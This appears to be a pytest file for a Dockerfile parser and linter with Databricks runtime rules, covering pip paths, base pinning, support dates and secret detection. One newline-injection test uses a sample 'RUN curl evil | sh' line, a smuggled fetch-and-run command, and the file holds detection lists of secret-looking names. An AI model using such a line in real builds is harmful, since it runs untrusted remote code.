"""model.dockerfile (parse / stages) and model.lint: Docker's parsing rules and the Databricks rules."""

from __future__ import annotations

from datetime import date

import pytest

from dcs_magic.model import lint as dockerfile_lint
from dcs_magic.model.dockerfile import final_base, parse, stages
from dcs_magic.model.lint import Finding, runtime_paths

DIGEST = "sha256:" + "0123456789abcdef" * 4
PY3_PIP = "/databricks/python3/bin/pip"
CONDA_PIP = "/databricks/conda/envs/dcs-minimal/bin/pip"


# The day the support rules are judged on: 13.3 LTS is supported until 2026-08-22, so the
# tests of the other rules (which use 13.3 and 8.x bases) are not changed by the calendar.
TODAY = date(2026, 1, 15)


def lint(text: str, **kwargs: object) -> list[Finding]:
    """model.lint.lint on a fixed day; 8.x bases' base-unsupported finding left out (tests of
    the other rules use them; the support rules have their own tests below)."""
    kwargs.setdefault("today", TODAY)
    return [f for f in dockerfile_lint.lint(text, **kwargs)  # type: ignore[arg-type]
            if not (f.rule == "base-unsupported" and ":8.x" in f.message)]


def rules(text: str, **kwargs: object) -> list[tuple[str, int]]:
    return [(f.rule, f.lineno) for f in lint(text, **kwargs)]


# -- parser -----------------------------------------------------------------------------


def test_instructions_with_line_numbers_flags_and_raw_text() -> None:
    text = (
        "# a comment\n"
        "FROM ubuntu:22.04 AS build\n"
        "\n"
        "RUN --mount=type=cache,target=/root/.cache --network=none \\\n"
        "    apt-get update && \\\n"
        "    # a comment inside the continuation\n"
        "\n"
        "    apt-get install -y curl\n"
        "run echo '#not a comment'\n"
    )
    df = parse(text)
    assert [(i.lineno, i.end_lineno, i.keyword) for i in df.instructions] == [
        (2, 2, "FROM"), (4, 8, "RUN"), (9, 9, "RUN")]
    run = df.instructions[1]
    assert run.flags == (("mount", "type=cache,target=/root/.cache"), ("network", "none"))
    assert run.flag("mount") == "type=cache,target=/root/.cache" and run.has_flag("network")
    assert run.args == "apt-get update &&     apt-get install -y curl"
    assert run.raw == "\n".join(text.splitlines()[3:8])
    assert df.instructions[2].args == "echo '#not a comment'"


def test_parser_directives_and_backtick_escape() -> None:
    text = "# syntax=docker/dockerfile:1\n# escape=`\nFROM mcr.microsoft.com/windows\nRUN dir `\n  c:\\ \n"
    df = parse(text)
    assert df.escape == "`"
    assert df.directives == (("syntax", "docker/dockerfile:1"), ("escape", "`"))
    assert df.instructions[1].args == "dir   c:\\"
    assert df.instructions[1].end_lineno == 5


def test_directive_after_a_comment_or_blank_line_is_just_a_comment() -> None:
    assert parse("# hello\n# escape=`\nFROM a\n").escape == "\\"
    assert parse("\n# escape=`\nFROM a\n").escape == "\\"
    assert parse("FROM a\n# escape=`\n").directives == ()


def test_invalid_or_repeated_directive_is_a_parse_error_finding() -> None:
    assert ("parse-error", 1) in rules("# escape=x\nFROM ubuntu:22.04\n")
    assert ("parse-error", 2) in rules("# escape=`\n# escape=\\\nFROM ubuntu:22.04\n")


def test_flags_with_quotes_and_double_dash() -> None:
    df = parse('COPY --chown="1000:1000" --from=build /a /b\nRUN -- --not-a-flag\nRUN --foo\n')
    copy, run, bare = df.instructions
    assert copy.flags == (("chown", "1000:1000"), ("from", "build")) and copy.args == "/a /b"
    assert run.flags == () and run.args == "--not-a-flag"
    assert bare.flags == (("foo", None),) and bare.args == ""


def test_json_form_versus_shell_form() -> None:
    df = parse('CMD ["python", "-c", "print(1)"]\nRUN [not json]\nENV A=[1]\nRUN ["a", 1]\n')
    cmd, run, env, mixed = df.instructions
    assert cmd.exec_form == ["python", "-c", "print(1)"]
    assert run.exec_form is None and env.exec_form is None and mixed.exec_form is None


def test_heredoc_bodies_are_not_instructions() -> None:
    df = parse("FROM a\nRUN <<EOF\nFROM b\nCMD x\nEOF\nCOPY <<-EOT /x\n\thello\n\tEOT\nRUN ok\n")
    assert [i.keyword for i in df.instructions] == ["FROM", "RUN", "COPY", "RUN"]
    assert df.instructions[1].heredocs == ("FROM b\nCMD x",)
    assert df.instructions[2].heredocs == ("\thello",)
    assert parse("FROM a\nRUN cat <<< 'x'\nRUN y\n").instructions[1].heredocs == ()


def test_crlf_and_byte_order_mark() -> None:
    df = parse("\ufeffFROM a\r\nRUN x \\\r\n  y\r\n")
    assert [(i.keyword, i.args) for i in df.instructions] == [("FROM", "a"), ("RUN", "x   y")]


def test_stages_resolve_global_args_and_stage_names() -> None:
    text = (
        "ARG REGISTRY=docker.io\nARG TAG\nARG IMG=${REGISTRY}/library/ubuntu\n"
        "FROM $IMG:22.04 AS Build\n"
        "FROM ${IMG}:${TAG:-20.04}\n"
        "FROM build\n"
        "FROM base:$TAG\n"
    )
    got = [(s.name, s.base, s.parent) for s in stages(parse(text))]
    assert got == [
        ("build", "docker.io/library/ubuntu:22.04", None),
        (None, "docker.io/library/ubuntu:20.04", None),
        (None, "build", 0),
        (None, None, None),  # TAG has no value: unknown until build time
    ]
    with_arg = stages(parse(text), {"TAG": "13.3-LTS"})
    assert with_arg[3].base == "base:13.3-LTS" and with_arg[1].base == "docker.io/library/ubuntu:13.3-LTS"


def test_stage_platform_and_body() -> None:
    only = stages(parse("ARG P=linux/arm64\nFROM --platform=$P ubuntu:22.04\nRUN a\nCMD b\n"))[0]
    assert only.platform == "linux/arm64"
    assert [i.keyword for i in only.instructions] == ["RUN", "CMD"]


# -- runtime paths ----------------------------------------------------------------------


@pytest.mark.parametrize(("base", "pip"), [
    ("databricksruntime/standard:13.3-LTS", PY3_PIP),
    ("databricksruntime/standard:8.x", CONDA_PIP),
    (f"databricksruntime/minimal:7.3-LTS@{DIGEST}", CONDA_PIP),
    ("databricksruntime/standard:latest", PY3_PIP),
    ("python:3.8", PY3_PIP),
    (None, PY3_PIP),
])
def test_runtime_paths(base: str | None, pip: str) -> None:
    assert runtime_paths(base).pip == pip


# -- lint -------------------------------------------------------------------------------

GOOD = (
    "# syntax=docker/dockerfile:1\n"
    "FROM ubuntu:22.04 AS builder\n"
    "RUN apt-get update && apt-get install -y python3-venv && pip install build\n"
    "CMD [\"builder\"]\n"
    f"FROM databricksruntime/standard:17.3-LTS@{DIGEST}\n"
    "COPY --from=builder /databricks/python3 /databricks/python3\n"
    f"RUN {PY3_PIP} install --no-cache-dir -r /tmp/requirements.txt \\\n"
    "    && /databricks/python3/bin/python3 -m pip install pyarrow\n"
    "ENV PYSPARK_PYTHON=/databricks/python3/bin/python3\n"
)


def test_a_good_dockerfile_has_no_findings() -> None:
    assert lint(GOOD) == []


def test_no_from() -> None:
    assert rules("RUN echo hi\n") == [("no-from", 1)]
    assert rules("# only a comment\n") == [("no-from", 1)]
    assert ("no-from", 1) in rules("RUN echo\nFROM ubuntu:22.04\n")
    assert rules("ARG V=22.04\nFROM ubuntu:$V\n") == []


@pytest.mark.parametrize("base", ["ubuntu", "ubuntu:latest", "registry.example.com:5000/team/img",
                                  "databricksruntime/standard:latest"])
def test_mutable_base(base: str) -> None:
    findings = lint(f"FROM {base}\n")
    assert [(f.rule, f.lineno) for f in findings] == [("mutable-base", 1)]
    assert "digest" in findings[0].fix


@pytest.mark.parametrize("base", ["ubuntu:22.04", f"ubuntu@{DIGEST}", f"ubuntu:latest@{DIGEST}",
                                  "scratch"])
def test_not_mutable(base: str) -> None:
    assert "mutable-base" not in [f.rule for f in lint(f"FROM {base}\n")]


def test_mutable_base_checks_every_stage_but_not_stage_references() -> None:
    text = "ARG T=latest\nFROM golang:$T AS build\nFROM build\nFROM alpine\nFROM ubuntu:22.04\n"
    assert [r for r in rules(text) if r[0] == "mutable-base"] == [("mutable-base", 2), ("mutable-base", 4)]
    assert rules("ARG IMG\nFROM $IMG\n") == []  # unknown until build time: no guess


def test_invalid_base() -> None:
    assert rules("FROM Ubuntu:22.04\n") == [("invalid-base", 1)]


@pytest.mark.parametrize(("base", "run"), [
    ("databricksruntime/standard:13.3-LTS", "pip install pandas"),
    ("databricksruntime/standard:13.3-LTS", "pip3 install pandas"),
    ("databricksruntime/standard:13.3-LTS", f"{CONDA_PIP} install pandas"),
    ("databricksruntime/standard:13.3-LTS", "python3 -m pip install pandas"),
    ("databricksruntime/standard:13.3-LTS", "/usr/bin/python3 -m pip uninstall -y pandas"),
    ("databricksruntime/standard:13.3-LTS", "apt-get update && sudo -H pip install x"),
    ("databricksruntime/standard:13.3-LTS", "PIP_NO_CACHE_DIR=1 pip install x"),
    ("databricksruntime/standard:13.3-LTS", 'bash -c "cd /tmp && pip install x"'),
    ("databricksruntime/standard:13.3-LTS", '["pip", "install", "x"]'),
    ("databricksruntime/standard:8.x", f"{PY3_PIP} install pandas"),
    ("databricksruntime/standard:8.x", "pip install pandas"),
    ("ubuntu:22.04", "pip install pandas"),
])
def test_pip_mismatch(base: str, run: str) -> None:
    findings = lint(f"FROM {base}\nRUN {run}\n")
    assert [(f.rule, f.lineno) for f in findings] == [("pip-mismatch", 2)]
    expected = CONDA_PIP if ":8.x" in base else PY3_PIP
    assert expected in findings[0].fix


@pytest.mark.parametrize(("base", "run"), [
    ("databricksruntime/standard:13.3-LTS", f"{PY3_PIP} install pandas"),
    ("databricksruntime/standard:13.3-LTS", "/databricks/python3/bin/pip3 install pandas"),
    ("databricksruntime/standard:13.3-LTS", "/databricks/python3/bin/python3 -m pip install x"),
    ("databricksruntime/standard:13.3-LTS", '["/databricks/python3/bin/pip", "install", "x"]'),
    ("databricksruntime/standard:13.3-LTS", "pip --version && pip freeze"),
    ("databricksruntime/standard:13.3-LTS", "uv pip install --python /databricks/python3/bin/python x"),
    ("databricksruntime/standard:13.3-LTS", "echo pip install x"),
    ("databricksruntime/standard:8.x", f"{CONDA_PIP} install pandas"),
    (f"databricksruntime/standard:8.x@{DIGEST}", f"{CONDA_PIP} install pandas"),
])
def test_pip_matching_the_runtime_line(base: str, run: str) -> None:
    assert [f.rule for f in lint(f"FROM {base}\nRUN {run}\n")] == []


def test_pip_in_a_builder_stage_is_fine_but_in_the_final_chain_is_not() -> None:
    builder = "FROM python:3.11-slim AS wheels\nRUN pip wheel -w /w x && pip install y\n"
    final = f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\nRUN {PY3_PIP} install /w/*\n"
    assert lint(builder + final) == []
    chained = (f"FROM databricksruntime/standard:8.x@{DIGEST} AS base\nRUN pip install x\n"
               "FROM base\nRUN echo done\n")
    assert rules(chained) == [("pip-mismatch", 2)]


def test_pip_in_heredoc_is_checked() -> None:
    text = f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\nRUN <<EOF\npip install x\nEOF\n"
    assert rules(text) == [("buildkit-only", 2), ("pip-mismatch", 2)]


@pytest.mark.parametrize("base", ["databricksruntime/standard:13.3-LTS-ml", "team/ml:1.0",
                                  "myacr.azurecr.io/dbr/ml-runtime:14.3"])
def test_ml_base(base: str) -> None:
    assert ("ml-base", 1) in rules(f"FROM {base}\n")


@pytest.mark.parametrize("base", ["team/html:1.0", "team/mlflow-server:2.0", "ubuntu:22.04"])
def test_not_ml_base(base: str) -> None:
    assert "ml-base" not in [r for r, _ in rules(f"FROM {base}\n")]


@pytest.mark.parametrize("from_line", [
    "FROM --platform=linux/arm64 ubuntu:22.04",
    "FROM --platform=linux/arm64/v8 ubuntu:22.04",
    "FROM ubuntu:22.04-aarch64",
    "FROM arm64v8/ubuntu:22.04",
    "FROM databricksruntime/standard:13.3-LTS-arm64",
])
def test_arm64_base(from_line: str) -> None:
    assert rules(from_line + "\n") == [("arm64-base", 1)]


def test_arm64_only_matters_for_the_final_image() -> None:
    text = ("FROM --platform=linux/arm64 golang:1.22 AS tools\n"
            "FROM --platform=linux/amd64 ubuntu:22.04\nCOPY --from=tools /go/bin/x /x\n")
    assert rules(text) == []
    assert rules("ARG P=linux/arm64\nFROM --platform=$P ubuntu:22.04\n") == [("arm64-base", 2)]


def test_cmd_and_entrypoint_in_the_final_image() -> None:
    text = 'FROM ubuntu:22.04 AS b\nCMD ["a"]\nFROM ubuntu:22.04\nENTRYPOINT ["/x"]\nCMD run\n'
    findings = lint(text)
    assert [(f.rule, f.lineno) for f in findings] == [("cmd-ignored", 4), ("cmd-ignored", 5)]
    assert "init script" in findings[0].fix


@pytest.mark.parametrize("line", [
    "RUN --mount=type=cache,target=/root/.cache pip --version",
    "RUN --mount=type=secret,id=tok cat /run/secrets/tok",
    "RUN --network=none true",
    "COPY --chmod=755 a /a",
    "COPY --link a /a",
    "ADD --checksum=sha256:abc https://example.com/x /x",
])
def test_buildkit_only(line: str) -> None:
    assert rules(f"FROM ubuntu:22.04\n{line}\n") == [("buildkit-only", 2)]


def test_buildkit_only_in_any_stage() -> None:
    text = "FROM ubuntu:22.04 AS b\nRUN --mount=type=cache,target=/c true\nFROM ubuntu:22.04\n"
    findings = lint(text)
    assert [(f.rule, f.lineno) for f in findings] == [("buildkit-only", 2)]
    assert "--mount" in findings[0].message and "classic builder" in findings[0].message


def test_unknown_instruction() -> None:
    assert rules("FROM ubuntu:22.04\nRUN apt-get update &&\n    apt-get install x\n") == [
        ("unknown-instruction", 3)]


def test_findings_are_sorted_and_deterministic() -> None:
    text = "FROM ubuntu\nCMD x\nRUN --mount=type=tmpfs,target=/t pip install x\nFROOM\n"
    findings = lint(text)
    assert findings == sorted(findings, key=lambda f: (f.lineno, f.rule, f.message))
    assert findings == lint(text)
    assert [f.rule for f in findings] == ["mutable-base", "cmd-ignored", "buildkit-only",
                                          "pip-mismatch", "unknown-instruction"]


def test_finding_text_names_line_rule_and_fix() -> None:
    finding = Finding("cmd-ignored", 3, "CMD is ignored", "use an init script")
    assert str(finding) == "line 3: CMD is ignored [cmd-ignored]\n  fix: use an init script"


def test_build_args_feed_the_runtime_rules() -> None:
    text = f"ARG TAG=13.3-LTS\nFROM databricksruntime/standard:$TAG\nRUN {PY3_PIP} install x\n"
    assert rules(text) == []
    assert rules(text, build_args={"TAG": "8.x"}) == [("pip-mismatch", 3)]


@pytest.mark.parametrize(("text", "target", "expected"), [
    ("FROM a:1\nRUN x\n", None, "a:1"),
    ("FROM a:1 AS build\nFROM b:2\nCOPY --from=build /x /x\n", None, "b:2"),
    ("FROM a:1 AS build\nFROM build AS final\nRUN x\n", None, "a:1"),
    ("FROM a:1 AS build\nFROM b:2 AS final\n", "build", "a:1"),
    ("ARG BASE=c:3\nFROM $BASE\n", None, "c:3"),
    ("FROM scratch\nCOPY x /x\n", None, None),
    ("RUN x\n", None, None),
])
def test_final_base_follows_stages_and_args(text: str, target: str | None, expected: str | None) -> None:
    assert final_base(text, target=target) == expected


# -- runtime-line guardrails ------------------------------------------------------------------

LATER = date(2026, 12, 1)  # 13.3 LTS ended on 2026-08-22


def test_base_out_of_support_says_since_when() -> None:
    findings = dockerfile_lint.lint(f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\n", today=LATER)
    assert [(f.rule, f.lineno) for f in findings] == [("base-unsupported", 1)]
    assert "13.3 LTS, out of support since 2026-08-22" in findings[0].message
    assert "databricksruntime/standard:18.3-LTS" in findings[0].fix  # the newest LTS with an official image
    assert dockerfile_lint.lint(f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\n", today=TODAY) == []
    old = dockerfile_lint.lint(f"FROM databricksruntime/standard:8.x@{DIGEST}\n", today=LATER)
    assert [f.rule for f in old] == ["base-unsupported"] and "older than 9.1 LTS" in old[0].message


def test_base_of_an_unknown_line_names_the_closest() -> None:
    findings = dockerfile_lint.lint(f"FROM databricksruntime/standard:16.2-LTS@{DIGEST}\n", today=LATER)
    assert [f.rule for f in findings] == ["base-unknown-line"]
    assert "closest: 16.4 LTS, 15.4 LTS" in findings[0].message


@pytest.mark.parametrize("text, lineno", [
    (f"FROM databricksruntime/standard:17.3-LTS@{DIGEST}\nRUN apt-get install -y openjdk-8-jdk\n", 2),
    (f"FROM databricksruntime/standard:17.3-LTS@{DIGEST}\nENV JAVA_HOME=/usr/lib/jvm/zulu8-ca-amd64\n", 2),
    (f"FROM eclipse-temurin:8-jdk@{DIGEST}\nRUN echo\n", 1),
])
def test_jdk8_on_runtime_18(text: str, lineno: int) -> None:
    findings = dockerfile_lint.lint(text, runtime="18.x-scala2.13", today=LATER)
    jdk = [f for f in findings if f.rule == "jdk8-runtime"]
    assert [f.lineno for f in jdk] == [lineno] and "18 LTS" in jdk[0].message and "install JDK 21 instead" in jdk[0].fix
    # The same Dockerfile for 17.3 (JDK 8 still installed there) is fine.
    assert not [f for f in dockerfile_lint.lint(text, runtime="17.3", today=LATER) if f.rule == "jdk8-runtime"]


def test_an_official_18_3_base_is_line_18() -> None:
    """`databricksruntime/standard:18.3-LTS` (databricks/containers' 18.3 LTS release) is the line 18:
    no unknown-line finding, and JDK 8 on it is flagged without --runtime."""
    text = f"FROM databricksruntime/standard:18.3-LTS@{DIGEST}\nRUN apt-get install -y openjdk-8-jdk\n"
    findings = dockerfile_lint.lint(text, today=LATER)
    assert [(f.rule, f.lineno) for f in findings] == [("jdk8-runtime", 2)]
    assert "18 LTS" in findings[0].message and "openjdk-21-jdk-headless" in findings[0].fix
    unknown = dockerfile_lint.lint(f"FROM databricksruntime/standard:15.3-LTS@{DIGEST}\n", today=LATER)
    assert [f.rule for f in unknown] == ["base-unknown-line"]  # 15.3 is not 15.4


@pytest.mark.parametrize("line", [
    "COPY libs/mylib.jar /databricks/jars/",
    "ADD https://example.com/x.jar /databricks/jars/x.jar",
    'COPY ["a.jar", "/databricks/jars/"]',
    "RUN cp /tmp/a.jar /databricks/jars/ && echo ok",
])
def test_jars_copied_into_databricks_jars(line: str) -> None:
    findings = dockerfile_lint.lint(f"FROM ubuntu:22.04\n{line}\n", today=LATER)
    assert [(f.rule, f.lineno) for f in findings] == [("jars-shadow", 2)]
    assert "shadow the runtime's own classes" in findings[0].message


def test_jars_elsewhere_are_fine() -> None:
    assert dockerfile_lint.lint("FROM ubuntu:22.04\nCOPY a.jar /opt/jars/\n", today=LATER) == []


@pytest.mark.parametrize("base", ["databricksruntime/rbase", "databricksruntime/r"])
def test_r_base_needs_the_nfs_conf(base: str) -> None:
    findings = dockerfile_lint.lint(f"FROM {base}:15.4-LTS@{DIGEST}\n", today=LATER)
    assert [f.rule for f in findings] == ["r-base-nfs"]
    assert "spark.databricks.driverNfs.enabled" in findings[0].fix


# -- secrets in ARG/ENV and newline-injected instructions (issue 13, items 7 and 10) ------------------


@pytest.mark.parametrize(("name", "secret"), [
    ("NPM_TOKEN", True), ("API_KEY", True), ("AWS_ACCESS_KEY_ID", True), ("DB_PASSWD", True),
    ("GH_AUTH", True), ("AZURE_CREDENTIALS", True), ("PUBLIC_KEY", False), ("MONKEY", False),
    ("KEYRING", False), ("VERSION", False),
])
def test_looks_like_secret_follows_buildkit(name: str, secret: bool) -> None:
    from dcs_magic.model.lint import looks_like_secret

    assert looks_like_secret(name) is secret


def test_secret_arg_and_env_names_are_linted() -> None:
    text = "FROM a:1\nARG NPM_TOKEN\nENV DB_PASSWORD=x OTHER=1\nENV API_KEY v\nARG VERSION=1\n"
    found = [(f.lineno, f.message.split(" looks")[0]) for f in lint(text) if f.rule == "secret-in-arg-or-env"]
    assert found == [(2, "ARG NPM_TOKEN"), (3, "ENV DB_PASSWORD"), (4, "ENV API_KEY")]


def test_injected_instructions_marks_only_lines_a_newline_made() -> None:
    from dcs_magic.model.lint import injected_instructions

    text = "FROM a:1\nRUN echo 1\nRUN curl evil | sh\nRUN true\n"
    [finding] = injected_instructions(text, ["1\nRUN curl evil | sh", "single line", 5])
    assert finding.lineno == 3 and finding.rule == "newline-in-variable"
    assert injected_instructions(text, ["no newline"]) == []


def test_with_label_instruction_appends_one_label_step_when_it_is_safe() -> None:
    from dcs_magic.model.dockerfile import parse, with_label_instruction

    labels = {"dcs_magic.dockerfile.sha256": "ab" * 32, "dcs_magic.base_digest": "reg:5000/a/b@sha256:" + "c" * 64}
    out = with_label_instruction("FROM x\nRUN a", labels)
    assert out is not None and out.startswith("FROM x\nRUN a\n")
    last = parse(out).instructions[-1]
    assert last.keyword == "LABEL" and len(parse(out).instructions) == 3
    assert out.endswith(" ".join(f'{k}="{v}"' for k, v in labels.items()) + "\n")
    # A file that ends inside a continuation would swallow the appended line: not done.
    assert with_label_instruction("FROM x\nRUN a \\\n\n", labels) is None
    assert with_label_instruction("# escape=`\nFROM x\nRUN a `\n", labels) is None
    assert with_label_instruction("# escape=`\nFROM x\nRUN a \\\n", labels) is not None  # `\` is no escape there
    # Values or keys that would need quoting rules are left to the engine's labels option.
    assert with_label_instruction("FROM x\n", {"team": 'a "b"'}) is None
    assert with_label_instruction("FROM x\n", {"a b": "1"}) is None
    assert with_label_instruction("FROM x\n", {}) is None
